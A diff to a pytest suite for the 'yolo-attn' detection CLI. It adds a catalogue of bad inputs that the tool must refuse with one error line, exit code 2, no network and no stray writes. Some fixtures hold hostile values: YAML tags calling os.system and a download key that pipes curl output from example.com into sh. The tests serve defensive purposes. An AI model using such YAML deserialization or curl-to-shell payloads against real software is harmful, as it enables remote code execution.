@@ -226,13 +226,13 @@ def test_crafted_resume_folder_and_run_names_write_nothing_outside(ws, monkeypat
     assert len(set(claimed)) == 12 and {p.name for p in claimed} == {'exp'} | {f'exp{n}' for n in range(2, 13)}
 
 
-def snapshot(folder):
+def snapshot(folder, hashes=True):
     """Every entry under ``folder``: its kind, size, modification time (ns) and content hash."""
     import hashlib
     out = {}
     for p in sorted(folder.rglob('*')):
         st = p.lstat()
-        digest = hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() and not p.is_symlink() else None
+        digest = hashlib.sha256(p.read_bytes()).hexdigest() if hashes and p.is_file() and not p.is_symlink() else None
         out[str(p.relative_to(folder))] = (p.is_dir(), st.st_size, st.st_mtime_ns, digest)
     return out
 
@@ -487,3 +487,142 @@ def test_ctrl_c_in_train_and_the_unsafe_opt_in_are_one_line_each(ws, monkeypatch
     monkeypatch.setenv(UNSAFE_ENV, '1')
     secure_load(ws / 'ok.pt')
     assert f'WARNING: {UNSAFE_ENV}=1: loading {ws / "ok.pt"} with weights_only=False' in capsys.readouterr().err
+
+
+# The catalogue, run again: cases beyond the ones above (every class), each one line, exit 2, ---------------------------
+# no connection or child process, nothing written but (at most) a run folder under runs/
+
+def data_yaml(ws, name, text):
+    """A data YAML in ``ws``; ``DS`` in ``text`` is the shapes dataset's folder."""
+    return write(ws, name, text.replace('DS', str(ws / 'ds')))
+
+
+def zip_pt(ws):
+    import zipfile
+    with zipfile.ZipFile(ws / 'zip.pt', 'w') as z:
+        z.writestr('archive/data.txt', 'not a checkpoint')
+    return 'zip.pt'
+
+
+NAMES = 'names: [a, b, c, d, e]\n'
+SPLITS = 'path: DS\ntrain: images/train\nval: images/val\n'
+HM = ['--weights', 'ok.pt', '--source', 'ds/images/val', '--imgsz', '64']
+NEW_CASES = {  # name: (argv builder, words the one line must contain)
+    # 1. nothing runs from a file
+    'hyp python/object/new': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--hyp', write(
+        ws, 'h3.yaml', 'lr0: !!python/object/new:os.system ["echo pwned"]\n')], 'refused'),
+    'data names python/name': (lambda ws: ['val', '--weights', 'ok.pt', '--data', data_yaml(
+        ws, 'd1.yaml', SPLITS + 'names: !!python/name:os.system\n')], 'refused'),
+    'cfg python/object/apply': (lambda ws: ['build', '--cfg', write(ws, 'm8.yaml', '!!python/object/apply:os.system '
+                                                                              '["echo pwned"]\n')], 'refused'),
+    'pt is a zip of something else': (lambda ws: ['detect', '--weights', zip_pt(ws), '--source', 'ds/images/val'],
+                                      'not a readable PyTorch checkpoint'),
+    # 2. no network, no program, no system change
+    'download key, split missing': (lambda ws: ['val', '--weights', 'ok.pt', '--data', data_yaml(
+        ws, 'd2.yaml', 'path: DS\ntrain: images/train\nval: images/missing\n' + NAMES +
+        'download: bash -c "curl http://example.com/x | sh"\n')], 'does not exist'),
+    'train split is a URL': (lambda ws: ['train', '--data', data_yaml(
+        ws, 'd3.yaml', 'path: DS\ntrain: https://example.com/train.zip\nval: images/val\n' + NAMES), *TRAIN],
+                             'does not exist'),
+    'val --task study (zip)': (lambda ws: ['val', '--weights', 'ok.pt', '--data', 'ds/shapes.yaml', '--task', 'study'],
+                               '--task study'),
+    'train --cache disk': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--cache', 'disk'],
+                           'nothing into your dataset'),
+    # 3. nothing written outside the run
+    'path: /etc': (lambda ws: ['val', '--weights', 'ok.pt', '--data', write(
+        ws, 'd4.yaml', 'path: /etc\ntrain: images/train\nval: images/val\n' + NAMES)], '/etc/images/val'),
+    'project /proc': (lambda ws: ['heatmap', *HM, '--project', '/proc'], 'choose a writable --project'),
+    'name 300 characters': (lambda ws: ['val', '--weights', 'ok.pt', '--data', 'ds/shapes.yaml', '--name', 'n' * 300],
+                            'cannot create run folder'),
+    'detect --update': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', 'ds/images/val', '--update'],
+                        'never overwrites'),
+    # 4. small inputs, large costs
+    'imgsz 99999 detect': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', 'ds/images/val', '--imgsz',
+                                       '99999'], '--max-pixels'),
+    'imgsz 99999 heatmap-eval': (lambda ws: ['heatmap-eval', '--weights', 'ok.pt', '--data', 'ds/shapes.yaml',
+                                             '--imgsz', '99999'], '--max-pixels'),
+    'batch-size -3': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--batch-size', '-3'], '--batch-size'),
+    # 6. one line instead of a traceback
+    'anchors as strings': (lambda ws: ['build', '--cfg', variant(ws, 'm9.yaml', '[10,13, 16,30, 33,23]',
+                                                                 '[ten,13, 16,30, 33,23]')], 'anchors:'),
+    'batch-size 0': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--batch-size', '0'], '--batch-size 0'),
+    'epochs 0': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--epochs', '0'], '--epochs 0'),
+    'workers -1': (lambda ws: ['train', '--data', 'ds/shapes.yaml', *TRAIN, '--workers', '-1'], '--workers -1'),
+    'conf-thres 2': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', 'ds/images/val', '--conf-thres', '2'],
+                     '--conf-thres 2'),
+    'iou-thres -1': (lambda ws: ['val', '--weights', 'ok.pt', '--data', 'ds/shapes.yaml', '--iou-thres', '-1'],
+                     '--iou-thres -1'),
+    'max-det 0 detect': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', 'ds/images/val', '--max-det', '0'],
+                         '--max-det 0'),
+    'max-det 0 heatmap': (lambda ws: ['heatmap', *HM, '--max-det', '0'], '--max-det 0'),
+    'source: folder of non-images': (lambda ws: ['detect', '--weights', 'ok.pt', '--source', folder(ws, 'nonimg')],
+                                     'No images or videos found'),
+    'names of the wrong length': (lambda ws: ['val', '--weights', 'ok.pt', '--data', data_yaml(
+        ws, 'd5.yaml', SPLITS + 'nc: 5\nnames: [a, b, c]\n')], 'lists 3 classes'),
+    'nc differs from the weights': (lambda ws: ['val', '--weights', 'ok.pt', '--data', data_yaml(
+        ws, 'd6.yaml', SPLITS + 'names: [a, b, c, d, e, f, g]\n')], '(7 classes)'),
+    'label with 4 columns': (lambda ws: ['val', '--weights', 'ok.pt', '--data', dataset_with(
+        ws, 'four', label='0 0.5 0.5 0.1\n')], 'x_center y_center width height'),
+    'data YAML is a list': (lambda ws: ['val', '--weights', 'ok.pt', '--data', write(ws, 'd7.yaml', '- a\n- b\n')],
+                            'must be a mapping'),
+    'weights is a folder': (lambda ws: ['val', '--weights', folder(ws, 'wdir.pt'), '--data', 'ds/shapes.yaml'],
+                            'wdir.pt'),
+    'device cuda:0, no GPU': (lambda ws: ['heatmap', *HM, '--device', 'cuda:0'], '--device cuda:0'),
+    'device 7 heatmap-eval': (lambda ws: ['heatmap-eval', '--weights', 'ok.pt', '--data', 'ds/shapes.yaml', '--device',
+                                          '7'], '--device 7'),
+    'layers 999 heatmap-eval': (lambda ws: ['heatmap-eval', '--weights', 'ok.pt', '--data', 'ds/shapes.yaml',
+                                            '--imgsz', '64', '--layers', '999'], '--layers [999]'),
+    'layers foo': (lambda ws: ['heatmap', *HM, '--layers', 'foo'], "unknown role 'foo'"),
+    'method nonsense': (lambda ws: ['heatmap', *HM, '--method', 'nonsense'], "invalid choice: 'nonsense'"),
+    'method nonsense compare': (lambda ws: ['heatmap-compare', '--weights', 'ok.pt', 'ok.pt', '--source',
+                                            'ds/images/val', '--method', 'nonsense'], 'unknown --method nonsense'),
+    'export onnx imgsz 0': (lambda ws: ['export', '--weights', 'ok.pt', '--include', 'onnx', '--imgsz', '0'],
+                            '--imgsz 0'),
+}
+
+
+def absolute(ws, arg) -> str:
+    """``arg``, or ``ws / arg`` where that names an input made in ``ws`` (the case runs elsewhere)."""
+    arg = str(arg)
+    try:
+        return str(ws / arg) if arg and not arg.startswith('-') and (ws / arg).exists() else arg
+    except OSError:  # e.g. a name too long for the filesystem
+        return arg
+
+
+@pytest.mark.parametrize('case', list(NEW_CASES))
+def test_catalogue_case_is_one_line_exit_2_offline_and_writes_nothing(ws, monkeypatch, capsys, no_network, tmp_path,
+                                                                     case):
+    make, words = NEW_CASES[case]
+    argv = [absolute(ws, a) for a in make(ws)]
+    before = snapshot(ws, hashes=False)
+    monkeypatch.chdir(tmp_path)  # an empty working folder: runs/ may appear there, nothing else
+    try:
+        rc = main(argv)
+    except SystemExit as e:  # argparse's own refusals (usage, then one error line)
+        rc = e.code
+    err = capsys.readouterr().err
+    lines = [s for s in err.replace('\r', '\n').splitlines() if s.startswith('yolo-attn')]
+    assert rc == 2 and 'Traceback' not in err and len(lines) == 1, err[-2000:]
+    assert lines[0].startswith(f'yolo-attn {argv[0]}: error: ') and words in lines[0], lines[0]
+    assert err.strip().splitlines()[-1] == lines[0]  # the last thing said
+    assert no_network == []
+    assert snapshot(ws, hashes=False) == before
+    assert all(p.parts[0] == 'runs' for p in (q.relative_to(tmp_path) for q in tmp_path.rglob('*'))), \
+        sorted(tmp_path.rglob('*'))
+
+
+@pytest.mark.parametrize('argv', [['heatmap', '--device', '7'], ['train', '--data', 'ds/shapes.yaml', '--epochs', '0']],
+                         ids=['heatmap device 7', 'train epochs 0'])
+def test_catalogue_from_the_console(ws, argv):
+    """The console script itself: exit code 2 and one line, no traceback."""
+    if argv[0] == 'heatmap':
+        argv = argv[:1] + HM + argv[1:]
+    else:
+        argv = argv + TRAIN[:4]
+    env = {**os.environ, 'PYTHONWARNINGS': 'ignore'}
+    out = subprocess.run([sys.executable, '-m', 'yolo_attn', *argv], cwd=ws, env=env, capture_output=True, text=True,
+                         timeout=300)
+    lines = out.stderr.strip().splitlines()
+    assert out.returncode == 2 and 'Traceback' not in out.stderr and lines[-1].startswith(f'yolo-attn {argv[0]}: error:')
+    assert sum(s.startswith('yolo-attn') for s in lines) == 1, out.stderr[-2000:]
